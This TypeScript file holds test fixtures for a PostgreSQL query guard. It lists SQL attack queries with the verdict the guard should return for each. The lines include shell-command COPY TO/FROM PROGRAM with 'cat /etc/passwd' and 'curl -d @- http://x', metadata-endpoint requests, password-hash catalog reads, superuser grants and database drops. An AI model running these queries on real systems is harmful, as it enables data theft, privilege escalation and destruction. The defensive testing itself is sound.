/** COPY, built-in functions, catalogs, and what reaches out of the database. The language of these lines is in attacks.ts. Only ever add to them. */
export const reachAttacks = String.raw`
# COPY
COPY vault.entries TO STDOUT WITH BINARY ⇒ none
COPY vault.entries (word) TO STDOUT ⇒ none
COPY (SELECT word FROM vault.entries) TO STDOUT CSV ⇒ none
COPY (EXECUTE p) TO STDOUT ⇒ untold
COPY (WITH d AS (DELETE FROM monitoring.checks RETURNING *) SELECT * FROM d) TO STDOUT ⇒ hold
COPY (INSERT INTO monitoring.checks VALUES (8, 'x') RETURNING *) TO STDOUT ⇒ hold
COPY (UPDATE monitoring.checks SET host = 'x' RETURNING host) TO STDOUT ⇒ hold
COPY (MERGE INTO monitoring.checks c USING vault.entries e ON c.id = e.id WHEN MATCHED THEN DELETE RETURNING word) TO STDOUT ⇒ none
COPY monitoring.checks FROM STDIN ⇒ hold
COPY monitoring.checks FROM '/etc/passwd' ⇒ no-pivot
COPY monitoring.checks FROM PROGRAM 'cat /etc/passwd' ⇒ no-pivot
COPY monitoring.checks TO PROGRAM 'curl -d @- http://x' ⇒ no-pivot
COPY (SELECT 1) TO '/tmp/x' ⇒ no-pivot
COPY (SELECT pg_read_file('PG_VERSION')) TO STDOUT ⇒ no-pivot
COPY monitoring.checks TO STDOUT; COPY vault.entries TO STDOUT ⇒ none
COPY monitoring.checks FROM STDIN WHERE host = monitoring.tell() ⇒ none
COPY public.notes (word) FROM STDIN WITH (FORMAT csv, ON_ERROR ignore, LOG_VERBOSITY verbose) ⇒ hold
COPY monitoring.checks TO STDOUT (FORMAT 'custom') ⇒ untold
# Functions that run text, read files, reach other systems
SELECT query_to_xml('TABLE vault.entries', true, false, '') ⇒ none
SELECT query_to_xml($$SELECT word FROM vault.entries$$, true, false, '') ⇒ none
SELECT query_to_xml(E'\x54ABLE vault.entries', true, false, '') ⇒ none
SELECT query_to_xml(query := 'TABLE vault.entries', nulls := true, tableforest := false, targetns := '') ⇒ untold
SELECT query_to_xml(convert_from('\x5441424c45207661756c742e656e7472696573', 'UTF8'), true, false, '') ⇒ untold
SELECT query_to_xml(VARIADIC ARRAY['TABLE vault.entries']) ⇒ untold
SELECT query_to_xmlschema('TABLE vault.entries', true, false, '') ⇒ none
SELECT query_to_xml_and_xmlschema('TABLE vault.entries', true, false, '') ⇒ none
SELECT query_to_xml('SET search_path = vault', true, false, '') >> TABLE entries ⇒ none
SELECT query_to_xml('DELETE FROM monitoring.checks RETURNING 1', true, false, '') ⇒ hold
SELECT table_to_xml('vault.entries'::regclass, true, false, '') ⇒ none
SELECT table_to_xml(16384, true, false, '') ⇒ untold
SELECT table_to_xmlschema('vault.entries', true, false, '') ⇒ none
SELECT table_to_xml((SELECT oid FROM pg_class WHERE relname = 'entries'), true, false, '') ⇒ untold
SELECT schema_to_xml('vault', true, false, '') ⇒ untold
SELECT schema_to_xml_and_xmlschema('vault', true, false, '') ⇒ untold
SELECT database_to_xmlschema(true, false, '') ⇒ untold
SELECT ts_stat('SELECT to_tsvector(word) FROM vault.entries') ⇒ none
SELECT * FROM ts_stat('SELECT to_tsvector(word) FROM vault.entries', 'a') ⇒ none
SELECT ts_rewrite('a'::tsquery, 'SELECT word::tsquery, word::tsquery FROM vault.entries') ⇒ none
SELECT ts_rewrite('a & b', E'SELECT word::tsquery, word::tsquery FROM vault.entries') ⇒ none
SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int) ⇒ no-pivot
SELECT dblink_connect('host=x') ⇒ no-pivot
SELECT dblink_exec('c', 'DELETE FROM t') ⇒ no-pivot
SELECT * FROM crosstab('SELECT word, 1, 2 FROM vault.entries') AS t(a text, b int) ⇒ none
SELECT xpath_table('id', 'word', 'vault.entries', '/', 'true') ⇒ untold
SELECT connectby('vault.entries', 'id', 'word', '1', 0) ⇒ untold
SELECT pg_read_file('postgresql.conf') ⇒ no-pivot
SELECT pg_read_file('postgresql.conf', 0, 100, true) ⇒ no-pivot
SELECT pg_read_binary_file('global/pg_control') ⇒ no-pivot
SELECT pg_catalog.pg_ls_dir('base', true, true) ⇒ no-pivot
SELECT * FROM pg_ls_waldir() ⇒ no-pivot
SELECT * FROM pg_ls_archive_statusdir() ⇒ no-pivot
SELECT * FROM pg_ls_replslotdir('x') ⇒ no-pivot
SELECT pg_stat_file('/etc/passwd') ⇒ no-pivot
SELECT pg_current_logfile('csvlog') ⇒ no-pivot
SELECT pg_file_write('/tmp/x', 'y', false) ⇒ no-pivot
SELECT pg_relation_filepath('vault.entries'), pg_read_binary_file(pg_relation_filepath('vault.entries')) ⇒ no-pivot
SELECT lo_import('/etc/passwd') ⇒ no-pivot
SELECT lo_import('/etc/passwd', 1) ⇒ no-pivot
SELECT lo_export(1, '/tmp/x') ⇒ no-pivot
SELECT lo_get(1) ⇒ no-value-leaking-catalogs
SELECT loread(lo_open(1, 262144), 10) ⇒ no-value-leaking-catalogs
SELECT lo_from_bytea(0, 'x') ⇒ no-catalog-writes
SELECT lo_put(1, 0, 'x') ⇒ no-catalog-writes
SELECT lo_unlink(oid) FROM pg_largeobject_metadata ⇒ no-catalog-writes
SELECT lowrite(0, 'x') ⇒ no-catalog-writes
SELECT lo_creat(-1) ⇒ no-catalog-writes
SELECT data FROM pg_largeobject ⇒ no-value-leaking-catalogs
SELECT get_raw_page('vault.entries', 0) ⇒ untold
SELECT * FROM heap_page_items(get_raw_page('vault.entries', 0)) ⇒ untold
SELECT pg_logical_slot_get_changes('s', NULL, NULL) ⇒ untold
SELECT * FROM pg_logical_slot_peek_binary_changes('s', NULL, NULL) ⇒ untold
SELECT pg_create_logical_replication_slot('s', 'test_decoding') ⇒ no-administration
SELECT pg_create_physical_replication_slot('s') ⇒ no-administration
SELECT pg_drop_replication_slot('s') ⇒ no-administration
SELECT pg_replication_slot_advance('s', '0/0') ⇒ no-administration
SELECT pg_logical_emit_message(true, 'a', 'b') ⇒ no-administration
SELECT pg_replication_origin_create('o') ⇒ no-administration
SELECT pg_switch_wal() ⇒ no-administration
SELECT pg_create_restore_point('x') ⇒ no-administration
SELECT pg_backup_start('x') ⇒ no-administration
SELECT pg_promote() ⇒ no-administration
SELECT pg_reload_conf() ⇒ no-administration
SELECT pg_rotate_logfile() ⇒ no-administration
SELECT pg_log_backend_memory_contexts(1) ⇒ no-administration
SELECT pg_import_system_collations('pg_catalog') ⇒ no-administration
SELECT pg_stat_reset() ⇒ no-administration
SELECT pg_stat_statements_reset() ⇒ no-administration
SELECT pg_restore_relation_stats('schemaname', 'vault') ⇒ no-administration
SELECT pg_clear_attribute_stats('vault', 'entries', 'word', false) ⇒ no-administration
SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index') ⇒ no-administration
SELECT amvalidate(1), pg_prewarm('vault.entries') ⇒ no-administration
SELECT gin_clean_pending_list('vault.i') ⇒ no-administration
SELECT pg_get_wal_records_info('0/0', '0/1') ⇒ untold
SELECT pg_buffercache_evict(1) ⇒ no-administration
SELECT pg_truncate_visibility_map('vault.entries') ⇒ no-administration
SELECT http_get('http://169.254.169.254/') ⇒ no-pivot
SELECT net.http_get('http://169.254.169.254/') ⇒ no-pivot
SELECT aws_s3.query_export_to_s3('TABLE vault.entries', 'b') ⇒ no-pivot
SELECT cron.schedule('* * * * *', 'TABLE vault.entries') ⇒ untold
SELECT plpy_exec('x') ⇒ untold
SELECT pg_wal_replay_pause() ⇒ no-administration
SELECT pg_sync_replication_slots() ⇒ no-administration
SELECT pg_stat_reset_shared('wal') ⇒ no-administration
SELECT pg_set_attribute_stats('vault.entries', 'word', false) ⇒ untold
SELECT pg_restore_attribute_stats('schemaname', 'vault') ⇒ no-administration
SELECT pg_replication_origin_session_setup('o') ⇒ no-administration
SELECT lo_truncate(0, 0) ⇒ no-catalog-writes
SELECT lo_create(0) ⇒ no-catalog-writes
SELECT brin_summarize_new_values('vault.i') ⇒ no-administration
SELECT pg_get_wal_stats('0/0', '0/1') ⇒ untold
SELECT pg_ls_summariesdir() ⇒ no-pivot
SELECT pg_show_all_settings() ⇒ none
SELECT pg_show_all_file_settings() ⇒ no-administration
SELECT pg_stat_get_wal_receiver() ⇒ no-value-leaking-catalogs
SELECT pg_visibility('vault.entries') ⇒ untold
SELECT pgstattuple('vault.entries') ⇒ untold
SELECT bt_index_check('vault.entries_pkey') ⇒ untold
SELECT verify_heapam('vault.entries') ⇒ untold
SELECT postgres_fdw_get_connections() ⇒ no-pivot
SELECT lo_manage() ⇒ untold
SELECT pg_background_launch('TABLE vault.entries') ⇒ untold
SELECT file_fdw_handler() ⇒ untold
SELECT pgcrypto.decrypt((SELECT word::bytea FROM vault.entries), 'k', 'aes') ⇒ untold
# Catalogs that hold values and secrets
SELECT most_common_vals FROM pg_stats WHERE schemaname = 'vault' ⇒ no-value-leaking-catalogs
SELECT stavalues1 FROM pg_statistic ⇒ no-value-leaking-catalogs
SELECT * FROM pg_statistic_ext_data ⇒ no-value-leaking-catalogs
SELECT * FROM pg_stats_ext_exprs ⇒ no-value-leaking-catalogs
SELECT query FROM pg_stat_activity ⇒ no-value-leaking-catalogs
SELECT * FROM pg_stat_get_activity(NULL) ⇒ no-value-leaking-catalogs
SELECT * FROM pg_stat_statements ⇒ untold
SELECT rolpassword FROM pg_authid ⇒ no-administration
SELECT passwd FROM pg_shadow ⇒ no-administration
SELECT * FROM pg_user_mapping ⇒ no-administration
SELECT umoptions FROM pg_user_mappings ⇒ no-administration
SELECT srvoptions FROM pg_foreign_server ⇒ no-value-leaking-catalogs
SELECT subconninfo FROM pg_subscription ⇒ no-value-leaking-catalogs
SELECT conninfo FROM pg_stat_wal_receiver ⇒ no-value-leaking-catalogs
SELECT setconfig FROM pg_db_role_setting ⇒ no-value-leaking-catalogs
SELECT * FROM pg_hba_file_rules ⇒ no-administration
SELECT * FROM pg_ident_file_mappings ⇒ no-value-leaking-catalogs
SELECT * FROM pg_file_settings ⇒ no-value-leaking-catalogs
SELECT option_value FROM information_schema.user_mapping_options ⇒ no-value-leaking-catalogs
SELECT rolconfig FROM pg_roles ⇒ no-administration
SELECT to_json(r) FROM pg_roles r ⇒ no-administration
SELECT setting FROM pg_settings WHERE name = 'primary_conninfo' ⇒ none
SELECT current_setting('primary_conninfo') ⇒ none
SELECT current_setting(name) FROM pg_settings ⇒ none
SELECT current_setting('archive' || '_command') ⇒ none
UPDATE pg_settings SET setting = 'vault' WHERE name = 'search_path' ⇒ no-catalog-writes
UPDATE pg_proc SET prosrc = 'SELECT 1' WHERE proname = 'tell' ⇒ no-catalog-writes
DELETE FROM pg_class ⇒ no-catalog-writes
INSERT INTO pg_authid (rolname) VALUES ('x') ⇒ no-catalog-writes
SELECT * FROM pg_toast.pg_toast_1255 ⇒ untold
SELECT chunk_data FROM "pg_toast"."pg_toast_2619" ⇒ untold
# Definitions that reach out
CREATE EXTENSION dblink CASCADE ⇒ no-pivot
ALTER EXTENSION plpgsql UPDATE ⇒ no-pivot
LOAD '$libdir/auto_explain' ⇒ no-pivot
CREATE LANGUAGE plpython3u ⇒ no-pivot
CREATE TRUSTED LANGUAGE plperl HANDLER h ⇒ no-pivot
CREATE SERVER s FOREIGN DATA WRAPPER file_fdw ⇒ no-pivot
ALTER SERVER s OPTIONS (SET host 'x') ⇒ no-pivot
CREATE FOREIGN DATA WRAPPER w HANDLER h ⇒ no-pivot
CREATE USER MAPPING FOR PUBLIC SERVER s OPTIONS (password 'x') ⇒ no-pivot
ALTER USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (password 'x') ⇒ no-pivot
IMPORT FOREIGN SCHEMA public LIMIT TO (a) FROM SERVER s INTO monitoring ⇒ no-pivot
CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (connect = false) ⇒ no-pivot
ALTER SUBSCRIPTION s CONNECTION 'host=y' ⇒ no-pivot
CREATE PUBLICATION p FOR TABLE vault.entries WHERE (id > 0) ⇒ none
ALTER PUBLICATION p ADD TABLES IN SCHEMA vault ⇒ none
CREATE PUBLICATION p FOR ALL TABLES ⇒ none
CREATE TABLESPACE t LOCATION '/tmp/x' ⇒ no-pivot
ALTER TABLESPACE pg_default RENAME TO x ⇒ hold
CREATE DATABASE copy TEMPLATE shop ⇒ hold
CREATE DATABASE copy STRATEGY file_copy ⇒ hold
DROP DATABASE shop WITH (FORCE) ⇒ no-drop-database
ALTER DATABASE shop RENAME TO x ⇒ no-administration
CREATE ROLE x SUPERUSER LOGIN PASSWORD 'x' ⇒ no-administration
CREATE USER x IN ROLE pg_read_server_files ⇒ no-administration
CREATE GROUP x ⇒ no-administration
GRANT pg_execute_server_program TO CURRENT_USER ⇒ no-administration
GRANT ALL ON ALL TABLES IN SCHEMA vault TO PUBLIC ⇒ no-administration
GRANT SET ON PARAMETER log_statement TO PUBLIC ⇒ no-administration
REVOKE ALL ON monitoring.checks FROM robot ⇒ no-administration
ALTER DEFAULT PRIVILEGES IN SCHEMA vault GRANT SELECT ON TABLES TO PUBLIC ⇒ no-administration
REASSIGN OWNED BY robot TO CURRENT_USER ⇒ no-administration
DROP OWNED BY robot CASCADE ⇒ no-administration
DROP ROLE robot ⇒ no-administration
DROP SCHEMA vault CASCADE ⇒ hold
DROP TABLE vault.entries CASCADE ⇒ hold
DROP TABLE IF EXISTS nowhere.x, vault.entries ⇒ hold
DROP FUNCTION monitoring.tell ⇒ hold
DROP ROUTINE monitoring.tell() ⇒ hold
DROP EXTENSION plpgsql CASCADE ⇒ untold
DROP TRIGGER copies ON monitoring.triggered ⇒ hold
DROP POLICY peeks ON monitoring.guarded ⇒ hold
DROP RULE "_also" ON monitoring.ruled ⇒ hold
TRUNCATE TABLE ONLY monitoring.checks RESTART IDENTITY CASCADE ⇒ hold
VACUUM (FULL, ANALYZE) monitoring.checks ⇒ no-administration
ANALYZE vault.entries ⇒ no-administration
CLUSTER ⇒ no-administration
REINDEX (CONCURRENTLY) SYSTEM shop ⇒ no-administration
CHECKPOINT ⇒ no-administration
DISCARD TEMP; TABLE vault.entries ⇒ none
INSERT INTO monitoring.checks VALUES (3, 'x') ⇒ hold
INSERT INTO monitoring.checks OVERRIDING SYSTEM VALUE SELECT id, word FROM vault.entries ⇒ none
INSERT INTO monitoring.checks VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET host = (SELECT word FROM vault.entries) RETURNING host ⇒ none
INSERT INTO monitoring.checks AS c VALUES (1, 'x') ON CONFLICT ON CONSTRAINT checks_pkey DO NOTHING ⇒ hold
UPDATE monitoring.checks SET (host) = ROW((SELECT word FROM vault.entries)) ⇒ none
UPDATE monitoring.checks c SET host = e.word FROM vault.entries e RETURNING OLD.host, NEW.host ⇒ none
DELETE FROM monitoring.checks USING vault.entries e RETURNING e.word ⇒ none
MERGE INTO monitoring.checks c USING (TABLE vault.entries) e ON c.id = e.id WHEN NOT MATCHED THEN INSERT VALUES (e.id, e.word) ⇒ none
MERGE INTO monitoring.checks c USING monitoring.checks d ON c.id = d.id WHEN MATCHED THEN UPDATE SET host = (SELECT word FROM vault.entries) RETURNING merge_action() ⇒ none
`;
